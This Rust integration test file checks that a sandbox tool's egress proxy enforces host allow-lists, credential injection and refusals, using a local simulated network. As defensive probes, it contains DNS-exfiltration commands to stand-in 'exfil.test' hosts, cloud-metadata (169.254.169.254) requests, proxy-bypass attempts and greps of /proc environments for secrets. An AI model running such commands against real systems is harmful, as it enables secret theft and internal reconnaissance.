//! A docker sandbox made with `--network allow:…` (issue 52), against a test
//! "internet": a network namespace this test makes, joined to the host by a
//! veth pair, with HTTP and HTTPS servers on a documentation address
//! (198.51.100.0/24, TEST-NET-2) and names the proxy resolves from a table
//! (`BERTH_EGRESS_HOSTS`), so no traffic and no lookup leaves the machine.
//!
//! Shown: curl, pip (a package from the test index) and git over the
//! allowed names; HTTPS through CONNECT; a host in no rule, a metadata
//! address, a private address reached by name and a redirect to metadata
//! refused, each naming its rule; a program that ignores the proxy
//! variables finds no route and no resolver; every connection is an event;
//! `berth sandbox network` changes the rules while the sandbox runs; clone
//! keeps them, and a clone to a backend that cannot enforce them fails and
//! says why; a new server after `server stop` opens the door again.
//!
//! Needs root (it makes a network namespace) and the docker engine: without
//! either it fails, naming what is missing.

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::docker_settings::{State, unique};
use crate::support::TestResult;

type BoxError = Box<dyn std::error::Error + Send + Sync>;

fn run(cmd: &str, args: &[&str]) -> Result<String, BoxError> {
    let o = Command::new(cmd).args(args).output()?;
    if !o.status.success() {
        return Err(format!(
            "{cmd} {args:?} failed: {}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
        .into());
    }
    Ok(String::from_utf8_lossy(&o.stdout).into_owned())
}

/// The test internet: a namespace with one address, its servers, and the
/// files they serve. Everything goes when it drops.
struct Inet {
    ns: String,
    host_if: String,
    addr: String,
    servers: Vec<Child>,
    _www: tempfile::TempDir,
    /// The locked slot file: the subnet is this Inet's while it is open.
    _slot: std::fs::File,
}

/// The first free /30 of 198.51.100.0/24 (of 60), locked with `flock` on a
/// file of its own; the lock goes when the file is closed.
fn claim_slot() -> Result<(std::fs::File, u32), BoxError> {
    use std::os::fd::AsRawFd;
    for slot in 0..60u32 {
        let f = std::fs::OpenOptions::new()
            .create(true)
            .truncate(false)
            .write(true)
            .open(std::env::temp_dir().join(format!("berth-inet-slot-{slot}.lock")))?;
        // SAFETY: flock on a descriptor this function owns.
        if unsafe { libc::flock(f.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) } == 0 {
            return Ok((f, slot * 4));
        }
    }
    Err("all 60 test-internet subnets are in use".into())
}

impl Inet {
    /// The HTTPS server's certificate (for a trust store).
    fn cert(&self) -> std::path::PathBuf {
        self._www.path().join("c.pem")
    }
}

impl Drop for Inet {
    fn drop(&mut self) {
        for s in &mut self.servers {
            let _ = s.kill();
            let _ = s.wait();
        }
        let _ = run("ip", &["link", "del", &self.host_if]);
        let _ = run("ip", &["netns", "del", &self.ns]);
    }
}

/// The test index's one package: a wheel made here, by the zip layout a
/// wheel has (no network, no build tools).
const MAKE_WHEEL: &str = r#"
import sys, zipfile, hashlib, base64, os
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
name = "berthdemo-1.0-py3-none-any.whl"
files = {
    "berthdemo/__init__.py": "GREETING = 'hello from the test index'\n",
    "berthdemo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: berthdemo\nVersion: 1.0\n",
    "berthdemo-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: berth-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = []
with zipfile.ZipFile(os.path.join(out, name), "w") as z:
    for path, text in files.items():
        data = text.encode()
        z.writestr(path, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append("berthdemo-1.0.dist-info/RECORD,,")
    z.writestr("berthdemo-1.0.dist-info/RECORD", "\n".join(record) + "\n")
"#;

/// The web server: files, and `/redirect` sending the client to the
/// metadata name.
const SERVE: &str = r#"
import http.server, ssl, sys, functools
addr, port, root = sys.argv[1], int(sys.argv[2]), sys.argv[3]
cert = sys.argv[4] if len(sys.argv) > 4 else None
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "http://meta.test/latest/meta-data/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path == "/headers":
            body = "".join(f"{k.lower()}: {v}\n" for k, v in self.headers.items()).encode()
            # Kept on the server's side too: berth masks secrets in what a
            # command prints, so the test reads what the server saw here.
            with open(f"{root}/seen-headers.txt", "ab") as f:
                f.write(body)
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        return super().do_GET()
s = http.server.ThreadingHTTPServer((addr, port), functools.partial(H, directory=root))
if cert:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, cert)
    s.socket = ctx.wrap_socket(s.socket, server_side=True)
s.serve_forever()
"#;

impl Inet {
    fn up() -> Result<Inet, BoxError> {
        if !nix::unistd::geteuid().is_root() {
            return Err("the egress test makes a network namespace, which needs root".into());
        }
        // A /30 and names of its own, so tests side by side (in one
        // process or several) never share a subnet: a slot is claimed with
        // a lock held for the Inet's life.
        let (slot, k) = claim_slot()?;
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let tag = format!("{}x{n}", std::process::id());
        let (host_ip, addr) = (
            format!("198.51.100.{}", k + 1),
            format!("198.51.100.{}", k + 2),
        );
        let ns = format!("berth-inet-{tag}");
        let host_if = format!("bi{tag}");
        run("ip", &["netns", "add", &ns])?;
        let www = tempfile::tempdir()?;
        let mut me = Inet {
            ns: ns.clone(),
            host_if: host_if.clone(),
            addr: addr.clone(),
            servers: Vec::new(),
            _www: tempfile::tempdir()?,
            _slot: slot,
        };
        run(
            "ip",
            &[
                "link", "add", &host_if, "type", "veth", "peer", "name", "eth0", "netns", &ns,
            ],
        )?;
        run(
            "ip",
            &["addr", "add", &format!("{host_ip}/30"), "dev", &host_if],
        )?;
        run("ip", &["link", "set", &host_if, "up"])?;
        let inside = |args: &[&str]| -> Result<String, BoxError> {
            let mut a = vec!["netns", "exec", &ns];
            a.extend_from_slice(args);
            run("ip", &a)
        };
        inside(&["ip", "addr", "add", &format!("{addr}/30"), "dev", "eth0"])?;
        inside(&["ip", "link", "set", "eth0", "up"])?;
        inside(&["ip", "link", "set", "lo", "up"])?;

        // What it serves: a file, the package index, a git repository.
        let root = www.path();
        std::fs::write(root.join("index.txt"), "hello from the test internet\n")?;
        run(
            "python3",
            &[
                "-c",
                MAKE_WHEEL,
                &root.join("simple/berthdemo").display().to_string(),
            ],
        )?;
        make_repo(root)?;
        // Key and certificate in two files, joined: some openssl versions
        // refuse one file for both.
        let (cert, key, crt) = (
            root.join("cert.pem"),
            root.join("key.pem"),
            root.join("c.pem"),
        );
        run(
            "openssl",
            &[
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-days",
                "1",
                "-subj",
                "/CN=secure.test",
                // A server's certificate, as rustls (berth's proxy, when it
                // adds a credential) will check it: named by SAN, not a CA.
                "-addext",
                "subjectAltName=DNS:secure.test",
                "-addext",
                "basicConstraints=critical,CA:FALSE",
                "-addext",
                "extendedKeyUsage=serverAuth",
                "-keyout",
                &key.display().to_string(),
                "-out",
                &crt.display().to_string(),
            ],
        )?;
        std::fs::write(
            &cert,
            std::fs::read_to_string(&key)? + &std::fs::read_to_string(&crt)?,
        )?;
        let serve = root.join("serve.py");
        std::fs::write(&serve, SERVE)?;
        for (port, tls) in [("8080", false), ("8443", true)] {
            let mut args = vec![
                "netns".to_string(),
                "exec".into(),
                ns.clone(),
                "python3".into(),
                serve.display().to_string(),
                addr.clone(),
                port.into(),
                root.display().to_string(),
            ];
            if tls {
                args.push(cert.display().to_string());
            }
            me.servers.push(
                Command::new("ip")
                    .args(&args)
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .spawn()?,
            );
        }
        me._www = www;
        // Up when the host reaches it directly (the sandbox cannot).
        let deadline = Instant::now() + Duration::from_secs(20);
        while std::net::TcpStream::connect((addr.as_str(), 8443)).is_err()
            || std::net::TcpStream::connect((addr.as_str(), 8080)).is_err()
        {
            if Instant::now() > deadline {
                return Err("the test internet's servers did not come up in 20 s".into());
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        Ok(me)
    }

    /// The proxy's name table: every test name on this internet, plus a
    /// metadata name and a private one.
    fn hosts(&self) -> String {
        let a = &self.addr;
        format!(
            "pypi.test={a},git.test={a},secure.test={a},other.test={a},meta.test=169.254.169.254,intranet.test=10.20.30.40"
        )
    }
}

/// A bare repository served over dumb HTTP, with one commit.
fn make_repo(root: &Path) -> Result<(), BoxError> {
    let work = root.join("work");
    let bare = root.join("repo.git");
    let (w, b) = (work.display().to_string(), bare.display().to_string());
    run("git", &["init", "-q", "-b", "main", &w])?;
    std::fs::write(work.join("README"), "cloned through berth's proxy\n")?;
    let g = |args: &[&str]| -> Result<String, BoxError> {
        let mut a = vec![
            "-C",
            w.as_str(),
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
        ];
        a.extend_from_slice(args);
        run("git", &a)
    };
    g(&["add", "README"])?;
    g(&["commit", "-q", "-m", "one"])?;
    run("git", &["clone", "-q", "--bare", &w, &b])?;
    run("git", &["-C", &b, "update-server-info"])?;
    Ok(())
}

fn text(o: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The net events of sandbox `name`, as `berth events --json` shows them.
fn net_events(st: &State, name: &str) -> Result<Vec<Value>, BoxError> {
    let out = st.ok(&["events", "--json", "--limit", "500"])?;
    Ok(out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| {
            e["sandbox"] == name && e["kind"].as_str().is_some_and(|k| k.starts_with("net."))
        })
        .collect())
}

#[test]
fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestResult {
    allow_list_on("docker")
}

#[test]
fn local_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestResult {
    allow_list_on("local")
}

fn allow_list_on(backend: &'static str) -> TestResult {
    let inet = Inet::up()?;
    let mut st = State::new("auto")?;
    st.backend = backend;
    st.env.push(("BERTH_EGRESS_HOSTS".into(), inet.hosts()));
    // A key for secure.test that the sandbox must never hold: berth's
    // server reads it from its environment (the CLI's, which starts it),
    // and trusts the test internet's certificate as a root.
    const SECRET: &str = "s3cret-b2e7f1";
    st.env.push(("TEST_TOKEN".into(), SECRET.into()));
    st.env
        .push(("SSL_CERT_FILE".into(), inet.cert().display().to_string()));
    std::fs::write(
        st.path().join("policy.toml"),
        "[[network.credentials]]\nhost = \"secure.test\"\nheader = \"Authorization\"\n\
         value_env = \"TEST_TOKEN\"\nprefix = \"Bearer \"\n",
    )?;
    let name = unique("egress");
    st.create(
        &name,
        // meta.test and intranet.test are allowed by name, and resolve to
        // metadata and a private address: refused all the same.
        &[
            "--network",
            "allow:pypi.test,git.test,secure.test:8443,meta.test,intranet.test",
        ],
    )?;

    // Allowed names: curl, pip from the test index, git over HTTP, HTTPS
    // through CONNECT (the proxy does not look inside).
    let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    let o = st.exec(
        &name,
        "python3 -m venv v && v/bin/pip install -q --disable-pip-version-check \
         --index-url http://pypi.test:8080/simple/ --trusted-host pypi.test berthdemo \
         && v/bin/python -c 'import berthdemo; print(berthdemo.GREETING)'",
    )?;
    assert!(
        text(&o).contains("hello from the test index"),
        "pip through the proxy: {}",
        text(&o)
    );
    let o = st.exec(
        &name,
        "git clone -q http://git.test:8080/repo.git repo && cat repo/README",
    )?;
    assert!(
        text(&o).contains("cloned through berth's proxy"),
        "git through the proxy: {}",
        text(&o)
    );
    let o = st.exec(&name, "curl -sSk https://secure.test:8443/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "https through CONNECT: {}",
        text(&o)
    );

    // The credential: the host's server sees the real key, put on by the
    // proxy (the sandbox sent its placeholder); curl, Python and pip check
    // the certificate the sandbox's CA signed, through the bundle berth
    // points them at (no -k).
    let o = st.exec(
        &name,
        "curl -sS https://secure.test:8443/headers -H \"Authorization: Bearer $TEST_TOKEN\"; \
         python3 -c 'import urllib.request as u; print(u.urlopen(\"https://secure.test:8443/index.txt\").read().decode())'",
    )?;
    let seen =
        std::fs::read_to_string(inet._www.path().join("seen-headers.txt")).unwrap_or_default();
    assert!(
        seen.contains(&format!("authorization: Bearer {SECRET}"))
            && text(&o).contains("hello from the test internet"),
        "the credential through the proxy: the server saw {seen:?}; the sandbox printed {}",
        text(&o)
    );
    // ...and it is nowhere in the sandbox: its environment (a placeholder
    // there), any process's environment or command line it can read, its
    // files, and the CA's key is not there either (only certificates).
    let o = st.exec(
        &name,
        // The pattern is put together in a file, so no command line holds it.
        "echo \"token=$TEST_TOKEN\"; p=\"${TMPDIR:-/tmp}/pat\"; printf '%s%s' s3cret -b2e7f1 > \"$p\"; \
         grep -ls -f \"$p\" /proc/*/environ /proc/*/cmdline 2>/dev/null; \
         grep -rls --exclude=pat -f \"$p\" \"$HOME\" /tmp \"${TMPDIR:-/tmp}\" /etc /run \"$(dirname \"$SSL_CERT_FILE\")\" 2>/dev/null; \
         grep -c 'BEGIN CERTIFICATE' \"$SSL_CERT_FILE\"; \
         grep -rls 'PRIVATE KEY' \"$(dirname \"$SSL_CERT_FILE\")\" 2>/dev/null; \
         echo end",
    )?;
    let t = text(&o);
    assert!(
        t.contains("token=berth-placeholder-TEST_TOKEN") && !t.contains(SECRET),
        "the secret reached the sandbox: {t}"
    );
    assert!(
        !t.contains("PRIVATE") && !t.lines().any(|l| l.starts_with('/')),
        "a file in the sandbox holds the secret or a private key: {t}"
    );
    assert!(
        t.lines()
            .any(|l| l.trim().parse::<u32>().is_ok_and(|n| n >= 2)),
        "the bundle holds the proxy's roots and the sandbox's CA: {t}"
    );

    // Refusals, each naming its rule: a host in no rule, a port the rule
    // does not name, metadata, a private address by name, a redirect to
    // metadata.
    for (cmd, rule) in [
        ("curl -sS http://other.test:8080/index.txt", "(mode allow)"),
        ("curl -sS http://secure.test:8080/index.txt", "(mode allow)"),
        (
            "curl -sS http://169.254.169.254/latest/meta-data/",
            "(guarded: link-local)",
        ),
        ("curl -sS http://intranet.test/", "(guarded: private)"),
        (
            "curl -sSL http://pypi.test:8080/redirect",
            "meta.test:80 refused by the sandbox's network policy (guarded: link-local)",
        ),
    ] {
        let o = st.exec(&name, cmd)?;
        let t = text(&o);
        assert!(
            t.contains("refused by the sandbox's network policy") && t.contains(rule),
            "{cmd}: {t}"
        );
    }

    // A program that ignores the proxy variables: no route, no resolver.
    let raw = format!(
        "python3 -c 'import socket; socket.create_connection((\"{}\", 8080), 3)'",
        inet.addr
    );
    let o = st.exec(&name, &raw)?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("Network is unreachable"), "{}", text(&o));
    let o = st.exec(
        &name,
        "curl -sS --noproxy '*' http://pypi.test:8080/index.txt",
    )?;
    assert!(
        !text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    // DNS exfiltration through the proxy: a name in no rule is never
    // looked up.
    let o = st.exec(&name, "curl -sS http://c2VjcmV0.exfil.test/")?;
    assert!(
        text(&o).contains("(mode allow)") && text(&o).contains("not looked up"),
        "{}",
        text(&o)
    );
    // DNS exfiltration from inside: a lookup has nowhere to go.
    let o = st.exec(
        &name,
        "python3 -c 'import socket; socket.getaddrinfo(\"secret.exfil.test\", 80)'",
    )?;
    assert_ne!(o.status.code(), Some(0), "a name resolved: {}", text(&o));

    // Every connection is an event, with its host, rule and bytes.
    let events = net_events(&st, &name)?;
    let detail = |e: &Value| -> Value {
        e["detail"]
            .as_str()
            .and_then(|d| serde_json::from_str(d).ok())
            .unwrap_or(Value::Null)
    };
    assert!(
        events.iter().any(|e| e["kind"] == "net.connect"
            && detail(e)["host"] == "pypi.test"
            && detail(e)["bytes_down"].as_u64().is_some_and(|b| b > 0)
            && detail(e)["rule"] == "allow: pypi.test"),
        "{events:?}"
    );
    assert!(
        events.iter().any(|e| e["kind"] == "net.connect"
            && detail(e)["host"] == "secure.test"
            && detail(e)["credential"] == "authorization"),
        "{events:?}"
    );
    assert!(
        !events.iter().any(|e| e.to_string().contains(SECRET)),
        "{events:?}"
    );
    assert!(
        events.iter().any(|e| e["kind"] == "net.refused"
            && detail(e)["host"] == "meta.test"
            && detail(e)["rule"] == "guarded: link-local"),
        "{events:?}"
    );

    // The rules change while it runs.
    let out = st.ok(&[
        "sandbox",
        "network",
        &name,
        "allow",
        "other.test",
        "-b",
        backend,
        "--json",
    ])?;
    let v: Value = serde_json::from_str(&out)?;
    assert!(
        v["allow"]
            .as_array()
            .is_some_and(|a| a.iter().any(|r| r == "other.test")),
        "{v}"
    );
    let o = st.exec(&name, "curl -sS http://other.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    st.ok(&[
        "sandbox",
        "network",
        &name,
        "deny",
        "pypi.test",
        "-b",
        backend,
    ])?;
    let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
    assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));

    // A clone keeps the rules, on its own backend and on the other one
    // that can hold a door.
    let copy = unique("egress-clone");
    st.owns(&copy, backend);
    st.ok(&["sandbox", "clone", &name, &copy, "-b", backend])?;
    let v: Value =
        serde_json::from_str(&st.ok(&["sandbox", "inspect", &copy, "-b", backend, "--json"])?)?;
    assert!(v.to_string().contains("other.test"), "{v}");
    if backend == "docker" {
        assert_eq!(v["container"]["settings"]["network"], "none", "{v}");
    }
    let o = st.exec(&copy, "curl -sS http://other.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    let o = st.exec(&copy, "curl -sS http://pypi.test:8080/index.txt")?;
    assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));
    let other = if backend == "docker" {
        "local"
    } else {
        "docker"
    };
    let moved = unique("egress-moved");
    st.owns(&moved, other);
    st.ok(&[
        "sandbox", "clone", &name, &moved, "-b", backend, "--to", other,
    ])?;
    let o = st.run(&[
        "exec",
        "-b",
        other,
        "-s",
        &moved,
        "--",
        "curl -sS http://other.test:8080/index.txt; curl -sS http://pypi.test:8080/index.txt",
    ])?;
    assert!(
        text(&o).contains("hello from the test internet") && text(&o).contains("(deny: pypi.test)"),
        "the clone on {other}: {}",
        text(&o)
    );
    // A background job reaches its hosts through the door too.
    let o = st.ok(&[
        "job",
        "start",
        "-b",
        backend,
        "-s",
        &name,
        "--name",
        "fetch",
        "--",
        "curl -sS http://other.test:8080/index.txt",
    ])?;
    let id = o.trim().to_string();
    let waited = st.ok(&["job", "wait", &id, "--timeout", "60"]);
    let logs = st.ok(&["job", "logs", &id])?;
    assert!(
        logs.contains("hello from the test internet"),
        "job {id}: {waited:?} {logs}"
    );

    // A new server opens the door again.
    st.ok(&["server", "stop"])?;
    let o = st.exec(&name, "curl -sS http://other.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    Ok(())
}

#[test]
fn docker_ask_puts_an_unknown_host_to_a_person() -> TestResult {
    ask_on("docker")
}

#[test]
fn local_ask_puts_an_unknown_host_to_a_person() -> TestResult {
    ask_on("local")
}

/// The pending approval for `command` in `st`, once it shows.
fn pending(st: &State, command: &str) -> Result<i64, BoxError> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let out = st.ok(&["approvals", "ls", "--json"])?;
        let found = out
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .flat_map(|v| match v {
                Value::Array(a) => a,
                v => vec![v],
            })
            .find(|a| a["command"] == command)
            .and_then(|a| a["id"].as_i64());
        if let Some(id) = found {
            return Ok(id);
        }
        if Instant::now() > deadline {
            return Err(format!("no approval for `{command}` in 60 s: {out}").into());
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// `[network] ask = true`: a host in no rule holds its connection until a
/// person answers; "always" adds it to the sandbox's rules, so the next
/// connection goes through unasked; a "no" is a refusal naming the
/// approval.
fn ask_on(backend: &'static str) -> TestResult {
    let inet = Inet::up()?;
    let mut st = State::new("auto")?;
    st.backend = backend;
    st.env.push(("BERTH_EGRESS_HOSTS".into(), inet.hosts()));
    std::fs::write(
        st.path().join("policy.toml"),
        "[network]\nask = true\n[approvals]\ntimeout_secs = 120\n",
    )?;
    let name = unique("egress-ask");
    st.create(&name, &["--network", "allow:pypi.test"])?;
    let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    std::thread::scope(|scope| -> TestResult {
        let held = scope.spawn(|| st.exec(&name, "curl -sS http://other.test:8080/index.txt"));
        let id = pending(&st, "connect other.test:8080")?;
        let out = st.ok(&["approve", &id.to_string(), "--always"])?;
        assert!(
            out.contains("other.test:8080") && out.contains("network rules"),
            "{out}"
        );
        let o = held.join().map_err(|_| "the held exec panicked")??;
        assert!(
            text(&o).contains("hello from the test internet"),
            "after approval: {}",
            text(&o)
        );
        Ok(())
    })?;
    // "Always": in the sandbox's rules now, and let through unasked.
    let v: Value =
        serde_json::from_str(&st.ok(&["sandbox", "inspect", &name, "-b", backend, "--json"])?)?;
    assert!(v.to_string().contains("other.test:8080"), "{v}");
    let o = st.exec(&name, "curl -sS http://other.test:8080/index.txt")?;
    assert!(
        text(&o).contains("hello from the test internet"),
        "{}",
        text(&o)
    );
    // A "no": refused, naming the approval; the name was never looked up
    // while it waited (the refusal's event has no address).
    std::thread::scope(|scope| -> TestResult {
        let held = scope.spawn(|| st.exec(&name, "curl -sS http://git.test:8080/repo.git/HEAD"));
        let id = pending(&st, "connect git.test:8080")?;
        st.ok(&["deny", &id.to_string()])?;
        let o = held.join().map_err(|_| "the held exec panicked")??;
        assert!(
            text(&o).contains(&format!("approval #{id} was denied by")),
            "after a no: {}",
            text(&o)
        );
        Ok(())
    })?;
    let events = net_events(&st, &name)?;
    assert!(
        events.iter().any(|e| e["kind"] == "net.refused"
            && e["detail"].as_str().is_some_and(
                |d| d.contains("\"host\":\"git.test\"") && d.contains("\"addr\":null")
            )),
        "{events:?}"
    );
    Ok(())
}

#[test]
fn a_bad_network_flag_or_a_backend_without_a_door_is_refused_with_why() -> TestResult {
    let st = State::new("off")?;
    let o = st.run(&["sandbox", "create", "x", "--network", "allow:bad host"])?;
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    let o = st.run(&["sandbox", "create", "x", "--network", "sometimes"])?;
    assert!(
        text(&o).contains("use `off`, `open` or `allow:HOST,HOST"),
        "{}",
        text(&o)
    );
    // A backend that cannot hold a door says why, and records nothing.
    let o = st.run(&[
        "sandbox",
        "create",
        "x",
        "-b",
        "ssh",
        "--network",
        "allow:pypi.org",
    ])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        text(&o).contains("that host's own network and firewall apply"),
        "{}",
        text(&o)
    );
    // An unrestricted local sandbox could not be held to the rules.
    let o = berth_unrestricted(
        &st,
        &["sandbox", "create", "x", "--network", "allow:pypi.org"],
    )?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        text(&o).contains("without kernel restrictions"),
        "{}",
        text(&o)
    );
    // Nothing was recorded for the refused sandbox.
    let ls = st.ok(&["sandbox", "ls", "--all", "--json"])?;
    assert!(!ls.contains("\"x\""), "{ls}");
    // The policy file's [network]: a ceiling, and rules every door has.
    std::fs::write(
        st.path().join("policy.toml"),
        "[network]\nmost = \"allow\"\ndeny = [\"blocked.test\"]\n",
    )?;
    let o = st.run(&["sandbox", "create", "wide", "--network"])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("most = \"allow\""), "{}", text(&o));
    st.ok(&[
        "sandbox",
        "create",
        "narrow",
        "--network",
        "allow:blocked.test",
    ])?;
    let o = st.run(&[
        "exec",
        "-s",
        "narrow",
        "--",
        "curl -sS http://blocked.test/",
    ])?;
    assert!(text(&o).contains("(deny: blocked.test)"), "{}", text(&o));
    std::fs::write(st.path().join("policy.toml"), "")?;
    // Rules change only on a sandbox whose way out is the proxy.
    st.ok(&["sandbox", "create", "plain"])?;
    let o = st.run(&["sandbox", "network", "plain", "allow", "pypi.org"])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("has network off"), "{}", text(&o));
    Ok(())
}

/// `berth ARGS` in `st`'s state dir with the local sandbox unrestricted.
fn berth_unrestricted(st: &State, args: &[&str]) -> Result<std::process::Output, BoxError> {
    let mut st2 = State::new("off")?;
    st2.env = st.env.clone();
    st2.env.push(("BERTH_UNRESTRICTED".into(), "1".into()));
    Ok(st2.run(args)?)
}

/// The official SDK's network calls against the E2B stand-in: create with
/// an allow-list, read it back, replace it, and a deny rule naming a host
/// refused as E2B refuses it.
const E2B_SDK_NETWORK: &str = r#"
from e2b import Sandbox
from e2b.sandbox.network import ALL_TRAFFIC
sb = Sandbox.create(timeout=60, network={"allow_out": ["pypi.org", "10.1.0.0/16"], "deny_out": [ALL_TRAFFIC]})
n = sb.get_info().network
print("created:", sorted(n["allow_out"]), list(n["deny_out"]))
sb.update_network({"allow_out": ["github.com"], "deny_out": [ALL_TRAFFIC]})
n = sb.get_info().network
print("updated:", list(n["allow_out"]), list(n["deny_out"]))
try:
    Sandbox.create(timeout=60, network={"deny_out": ["evil.example"]})
    print("deny-by-name: accepted")
except Exception as e:
    print("deny-by-name: refused", "not supported" in str(e))
sb.kill()
"#;

/// berth's CLI on a cloud backend's stand-in (its settings in `env`), and
/// one sandbox made there under the allow rules both cloud tests use.
fn cloud_sandbox(
    backend: &'static str,
    env: Vec<(String, String)>,
) -> Result<(State, String), BoxError> {
    let mut st = State::new("off")?;
    st.backend = backend;
    st.env.extend(env);
    let name = unique(&format!("{backend}-allow"));
    st.create(
        &name,
        &["--network", "allow:pypi.test,*.github.test,10.1.0.0/16"],
    )?;
    Ok((st, name))
}

/// The one item of `items`, or an error naming what was found.
fn only(items: Vec<String>, what: &str) -> Result<String, BoxError> {
    match <[String; 1]>::try_from(items) {
        Ok([one]) => Ok(one),
        Err(items) => Err(format!("expected one {what}, found {items:?}").into()),
    }
}

/// E2B holds `--network allow:` with its own allow-list: berth sends
/// `network {allowOut, denyOut: [0.0.0.0/0]}` on create and `PUT
/// /sandboxes/{id}/network` on `berth sandbox network`, and refuses what
/// the list cannot hold (a port, an approval, a deny rule that meets an
/// allow rule), saying why, with nothing changed.
#[test]
fn e2b_holds_allow_rules_with_its_own_allow_list() -> TestResult {
    let rt = tokio::runtime::Runtime::new()?;
    let standin = rt.block_on(berth_standins::e2b::E2bStandin::start(0))?;
    let (st, name) = cloud_sandbox("e2b", standin.env())?;
    let id = &only(standin.sandbox_ids(), "E2B sandbox")?;
    let net = || standin.network_of(id).ok_or("the sandbox is gone");
    let (open, filter) = net()?;
    assert!(
        open,
        "allow_internet_access must be on for the filter to let anything out"
    );
    assert_eq!(
        filter,
        Some(serde_json::json!({
            "allowOut": ["pypi.test", "*.github.test", "10.1.0.0/16"],
            "denyOut": ["0.0.0.0/0"],
        }))
    );
    let o = st.exec(&name, "echo still-works")?;
    assert!(text(&o).contains("still-works"), "{}", text(&o));

    // Changed while it runs: the platform's list changes with the rules.
    st.ok(&[
        "sandbox",
        "network",
        &name,
        "allow",
        "other.test",
        "-b",
        "e2b",
    ])?;
    let (_, filter) = net()?;
    assert!(
        filter.as_ref().is_some_and(|f| f["allowOut"]
            .as_array()
            .is_some_and(|a| a.iter().any(|h| h == "other.test"))),
        "{filter:?}"
    );
    // What the list cannot hold is refused, and nothing changes.
    let o = st.run(&[
        "sandbox",
        "network",
        &name,
        "allow",
        "db.test:5432",
        "-b",
        "e2b",
    ])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("has no ports"), "{}", text(&o));
    let v = st.ok(&["sandbox", "inspect", &name, "-b", "e2b", "--json"])?;
    assert!(!v.contains("db.test:5432"), "a refused rule was kept: {v}");
    assert_eq!(net()?.1, filter, "a refused rule reached E2B");
    let o = st.run(&[
        "sandbox",
        "create",
        "ports",
        "-b",
        "e2b",
        "--network",
        "allow:db.test:5432",
    ])?;
    assert!(text(&o).contains("has no ports"), "{}", text(&o));
    std::fs::write(st.path().join("policy.toml"), "[network]\nask = true\n")?;
    let o = st.run(&[
        "sandbox",
        "create",
        "asks",
        "-b",
        "e2b",
        "--network",
        "allow:pypi.test",
    ])?;
    assert!(text(&o).contains("a person decides"), "{}", text(&o));
    std::fs::write(
        st.path().join("policy.toml"),
        "[network]\ndeny = [\"gist.github.test\"]\n",
    )?;
    let o = st.run(&[
        "sandbox",
        "create",
        "meets",
        "-b",
        "e2b",
        "--network",
        "allow:*.github.test",
    ])?;
    assert!(text(&o).contains("`gist.github.test`"), "{}", text(&o));
    assert_eq!(standin.sandbox_ids().len(), 1, "a refused sandbox was made");

    // The official SDK against the same stand-in.
    let dir = tempfile::tempdir()?;
    let script = dir.path().join("net.py");
    std::fs::write(&script, E2B_SDK_NETWORK)?;
    let out = Command::new("python3")
        .arg(&script)
        .envs(standin.env())
        .output()?;
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    for line in [
        "created: ['10.1.0.0/16', 'pypi.org'] ['0.0.0.0/0']",
        "updated: ['github.com'] ['0.0.0.0/0']",
        "deny-by-name: refused True",
    ] {
        assert!(t.lines().any(|l| l == line), "missing {line:?} in {t}");
    }
    Ok(())
